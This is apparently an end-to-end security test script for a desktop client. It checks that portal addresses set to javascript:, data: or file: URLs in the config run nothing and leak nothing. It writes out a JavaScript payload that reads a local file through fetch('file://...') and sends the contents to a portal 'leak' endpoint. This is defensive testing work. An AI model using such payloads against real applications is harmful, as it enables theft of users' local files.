#!/usr/bin/env bash
# A server configuration whose portal address is script, inline data or a
# local file must not run anything or read anything: the portal never sees the
# secret a script would send it, and the library still comes from the fixed
# portal address. Usage: hostile_config_test.sh BUILD_DIR OUT_DIR
set -euo pipefail
E2E_BUILD=$1 E2E_OUT=$2
source "$(dirname "$0")/lib.sh"

# gbk_config ADDRESS FILE: a complete configuration, GBK with CRLF.
gbk_config() {
  printf '[澜映软件配置]\r\n域名=%s\r\n名称=澜映影视\r\n[软件更新配置]\r\n版本=1.0\r\n' "$1" |
    iconv -f UTF-8 -t GBK >"$2"
}

e2e_start_display
run_case() {
  local name=$1 address=$2 stored=$3
  E2E_CASE=$name
  e2e_private_home
  local secret; secret=secret-$RANDOM$RANDOM
  echo "$secret" >"$HOME/marker"
  address=${address//MARKER/$HOME\/marker}
  gbk_config "$address" "$e2e_tmp/zel.txt"
  # The settings ask no update question; an earlier run may have stored the same bad address.
  sed -i 's/^update=.*/update=False/' "$APPDIR/zelskin/Config.ini"
  [ "$stored" = stored ] && cp "$e2e_tmp/zel.txt" "$APPDIR/zelhe.db"
  e2e_start_portal --config "$e2e_tmp/zel.txt"
  e2e_start_client
  e2e_portal_saw 60 'GET /tcab/ ' || e2e_fail "$name: the library did not come from the fixed portal address"
  sleep 2
  ! grep -q "$secret" "$PORTAL_LOG" || e2e_fail "$name: the portal received the secret"
  e2e_client_alive || e2e_fail "$name: the client ended"
  e2e_shot "hostile-$name"
  e2e_stop "$CLIENT_PID" "$PORTAL_PID"
  echo "ok: $name"
}

leak="fetch('file://MARKER').then(r=>r.text()).then(t=>fetch('PORTAL/leak?'+t))"
for stored in fresh stored; do
  run_case "javascript-$stored" "javascript:${leak//PORTAL/\{\{PORTAL\}\}};//" "$stored"
  run_case "data-$stored" "data:text/html,<script>${leak//PORTAL/\{\{PORTAL\}\}}</script>" "$stored"
  run_case "file-$stored" "file:///etc" "$stored"
done
